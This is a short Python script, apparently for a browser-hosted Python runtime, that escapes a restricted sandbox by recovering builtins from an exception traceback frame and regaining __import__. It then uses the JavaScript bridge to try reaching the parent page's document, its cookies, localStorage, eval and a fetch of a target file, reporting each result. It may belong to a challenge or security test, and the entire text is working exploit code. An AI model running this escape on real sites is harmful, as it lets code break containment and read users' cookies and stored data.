# An exception keeps its frame, and the frame keeps the builtins that nobody passed on.
try:
    raise ValueError
except ValueError as error:
    frame = error.__traceback__.tb_frame
builtins = frame.f_globals["__builtins__"]
names = builtins if isinstance(builtins, dict) else vars(builtins)
print(f"{len(names)} builtins, by way of a traceback")

# With __import__ back in hand, Python's fences are behind us. Out, into JavaScript:
js = names["__import__"]("js")
from target import FILE, uncover

uncover("fetch")
for name, reach in {
    "the page": lambda: js.window.parent.document,
    "its cookies": lambda: js.document.cookie,
    "its storage": lambda: js.localStorage,
    "more code": lambda: js.eval("1 + 1"),
    "the site": lambda: js.fetch(FILE),
}.items():
    try:
        found = reach()
        print(f"{name}: {await found if hasattr(found, 'then') else found}")
    except Exception as refused:
        print(f"{name}: refused, {type(refused).__name__}")
